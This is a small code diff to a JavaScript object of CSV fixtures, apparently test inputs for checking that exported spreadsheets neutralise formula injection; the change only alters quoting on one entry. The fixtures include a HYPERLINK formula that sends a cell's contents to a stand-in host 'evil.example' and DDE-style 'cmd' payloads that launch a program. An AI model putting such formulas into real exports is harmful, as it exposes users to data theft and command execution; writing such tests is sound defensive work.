@@ -14,7 +14,7 @@ export const FORMATS = {
   },
   csv: {
     formula: '=HYPERLINK("https://evil.example/?"&A1,"Forged")',
-    'formula of a spreadsheet': '@SUM(1+1)*cmd|\' /C calc\'!A0 Forged',
+    'formula of a spreadsheet': "@SUM(1+1)*cmd|' /C calc'!A0 Forged",
     'formula after a tab': '\t=1+1 Forged',
     'cells and rows': 'Forged",1\r\n"Forged",2',
     sign: '-2+3+cmd|Forged',
